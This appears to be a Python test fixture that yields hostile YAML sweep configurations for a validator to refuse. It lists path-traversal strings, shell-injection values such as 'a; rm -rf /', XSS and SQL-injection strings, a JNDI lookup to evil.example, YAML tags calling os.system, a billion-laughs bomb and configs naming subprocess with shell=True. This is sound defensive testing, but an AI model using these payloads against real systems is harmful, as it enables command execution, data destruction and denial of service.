"""Grids that nobody means well."""

from collections.abc import Iterator

from grids import tiny_sweep

_TEXTS = (
    "..",
    "../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "~root/.ssh",
    "file:///etc/passwd",
    "http://169.254.169.254/latest",
    "s3://segsweep/store",
    "${AWS_SECRET_ACCESS_KEY}",
    "${RAY_AUTH_TOKEN}/x",
    "$(id)",
    "`id`",
    "a; rm -rf /",
    "a && id",
    "--address=auto",
    "-x",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "';drop table runs;--",
    "%s%n%2e%2e%2f",
    "a\x00b",
    "a\r\nSet-Cookie: x=1",
    "a\x1b[31m",
    "\u202eevil",
    "a\u2028b",
    "x" * 2_000,
    "",
    " ",
    ".hidden",
)
"""Where the name of something stands."""

_NUMBERS = ("9" * 30, "-1", ".nan", "-.inf", "1e400", "0x" + "f" * 6_000, "9" * 5_000, "0b_", "true")
"""Where a small whole number stands."""

_RAW = (
    b"",
    b"\x00",
    b"\xff\xfe\x00",
    b"\xed\xa0\xbd",
    b"just words",
    b"- a\n- list",
    b"{",
    b"name: [",
    b"%YAML 9.9\n---\nname: a",
    b"name: a\n---\nname: b",
    b"name: a\nname: b",
    b"name: !!python/object/apply:os.system ['id']",
    b"!!python/object/new:type {args: [z, [], {}]}",
    b"name: !!python/name:os.system",
    b"name: !<tag:yaml.org,2002:binary> aGk=",
    b"name: !!set {a, b}",
    b"name: !!timestamp 2024-01-01",
    b"!!map {name: a}",
    b"name: !include /etc/passwd",
    b"name: 2024-02-31",
    b"name: =",
    b"? [a, b]\n: 1",
    b"? {a: b}\n: 1",
    b"a: &a [*a]",
    b"a: &a {<<: *a}",
    b"<<: [1, 2]",
    b'name: "\\ud83d"',
    b'name: "\\0"',
    b'"\\uDC80": 1',
    b'"colour\\n": 1',
    b"a: " + b"[" * 60_000,
    b"a: " + b"{a: " * 15_000,
    b"- " * 30_000,
    b"? " * 30_000,
    b"a: " + b"[" * 500 + b"]" * 500,
    b"[" + b"1," * 30_000 + b"]",
    b"{" + b"".join(b"k%d: 1," % number for number in range(7_000)) + b"}",
    b"x" * 65_536,
    b'"' + b"\\x41" * 16_000 + b'"',
    b"# " + b"x" * 65_000,
    b"&a " * 3,
    b"*a",
)

_KEYS: tuple[dict[str, object], ...] = (
    {
        "grid": {
            "loss": ["dice"] * 40,
            "lr": [1.0] * 40,
            "epochs": [1] * 40,
            "batch_size": [1] * 40,
            "patience": [1] * 40,
        }
    },
    {"grid": {"loss": "dice", **{key: [1] * 100 for key in ("lr", "epochs", "batch_size", "plateau", "patience")}}},
    {"grid": [{"loss": "dice", "epsilon": [{"low": 0, "high": 1}] * 200, "lr": [1] * 200}], "search": {"trials": 9}},
    {"grid": {"loss": "dice", "epsilon": {"low": 1, "high": 0}}, "search": {"trials": 9}},
    {"datasets": {"phantom": {"p": [0.3] * 60, "k": [4] * 60, "r": [1] * 60}}},
    {"datasets": {"phantom": {"p": 0.3, "k": 4, "r": 0.7391, "size": 2**62}}},
    {"datasets": {"phantom": {"p": 0.3, "k": 4, "r": float("1e-300")}}},
    {"datasets": [{"phantom": {"p": 0.3, "k": 4, "r": 1}}] * 1_001},
    {"folds": {"k": 2**62}},
    {"folds": {"k": 5, "run": [0] * 2_000}},
    {"network": {"monai": "HoVerNet", "args": {"pretrained_url": "http://evil.example/x"}}},
    {"network": {"monai": "os.system", "args": {"command": "rm -rf /"}}},
    {"augment": {"monai": [{"SaveImage": {"output_dir": "out"}}]}},
    {"augment": {"monai": [{"RandLambda": {"func": "lambda x: x"}}]}},
    {"grid": {"loss": "monai:PerceptualLoss", "args": {"pretrained_path": "../x.pt"}}},
    {"grid": {"loss": "os:system"}},
    {"grid": {"loss": "subprocess:run", "args": {"args": ["id"], "shell": True}}},
    {"grid": {"loss": "dice", "args": {"a": [[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]}}},
    {"colour": "x"},
    {"__class__": {"__init__": 1}},
)


def hostile_grids() -> Iterator[bytes]:
    """Each is to be refused."""
    yield from _RAW
    yield _laughs("[{}]")
    yield _laughs("{{<<: [{}]}}")
    for text in _TEXTS:
        yield tiny_sweep(name=text).encode()
        yield tiny_sweep(grid={"loss": text}).encode()
        yield tiny_sweep(datasets={"folder": text, "name": "x"}).encode()
        yield tiny_sweep(**{f"key {text}": 1}).encode()
    for number in _NUMBERS:
        for key in ("seeds", "retry"):
            yield f"{tiny_sweep()}{key}: {number}\n".encode()
        yield tiny_sweep(train="NUMBER").replace("NUMBER", f"{{batch_size: {number}}}").encode()
    for change in _KEYS:
        yield tiny_sweep(**change).encode()


def _laughs(written: str) -> bytes:
    """A billion of them: nine lines, each ten times the one before."""
    lines = ["a0: &a0 {k: v}"]
    lines += [f"a{n}: &a{n} {written.format(', '.join([f'*a{n - 1}'] * 10))}" for n in range(1, 10)]
    return "\n".join(lines).encode()
